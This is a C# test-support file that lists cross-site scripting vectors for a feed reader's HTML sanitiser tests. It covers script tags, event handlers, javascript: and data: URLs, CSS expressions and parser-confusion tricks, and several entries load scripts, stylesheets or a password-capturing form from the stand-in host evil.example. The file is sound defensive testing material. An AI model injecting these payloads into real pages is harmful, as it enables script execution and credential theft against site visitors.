namespace FeedHub.Tests.Support;

/// <summary>
/// The XSS vectors of the security suite: script, event handlers, script URLs, active elements, CSS expressions and
/// parser confusions, as feeds and pages carry them. The sanitiser's tests, the ways-in corpus and the Chromium run share them.
/// </summary>
public static class XssVectors
{
    public static IReadOnlyList<string> All { get; } =
    [
        "<script>alert(1)</script>",
        "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
        "<img src=x onerror=alert(1)>",
        "<img src=\"x\" ONERROR=\"alert(1)\">",
        "<body onload=alert(1)>",
        "<div onmouseover=\"alert(1)\">hover</div>",
        "<a href=\"javascript:alert(1)\">click</a>",
        "<a href=\" JaVaScRiPt:alert(1)\">click</a>",
        "<a href=\"java&#x09;script:alert(1)\">click</a>",
        "<a href=\"vbscript:msgbox(1)\">click</a>",
        "<a href=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\">click</a>",
        "<iframe src=\"javascript:alert(1)\"></iframe>",
        "<iframe src=\"https://evil.example/\"></iframe>",
        "<iframe srcdoc=\"<script>alert(1)</script>\"></iframe>",
        "<svg><script>alert(1)</script></svg>",
        "<svg onload=alert(1)><circle r=1 /></svg>",
        "<svg><a xlink:href=\"javascript:alert(1)\"><text>x</text></a></svg>",
        "<math><mtext><script>alert(1)</script></mtext></math>",
        "<div style=\"width: expression(alert(1))\">css</div>",
        "<div style=\"background:url(javascript:alert(1))\">css</div>",
        "<style>body{background:url(javascript:alert(1))}</style>",
        "<link rel=stylesheet href=//evil.example/x.css>",
        "<base href=\"javascript:alert(1)//\">",
        "<meta http-equiv=\"refresh\" content=\"0;url=javascript:alert(1)\">",
        "<form action=\"https://evil.example/\"><input name=password><button>go</button></form>",
        "<object data=\"https://evil.example/x.swf\"></object><embed src=\"https://evil.example/x.swf\">",
        "<img src=\"data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+\">",
        "<video><source onerror=\"alert(1)\"></video>",
        "<details open ontoggle=alert(1)>",
        "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\"></noscript>",
        "<template><script>alert(1)</script></template>",
        "<img srcset=\"https://ok.example/a.jpg 1x, javascript:alert(1) 2x\">",
        "<a href=\"https://ok.example/\" target=\"_blank\" formaction=\"javascript:alert(1)\">x</a>",
    ];
}
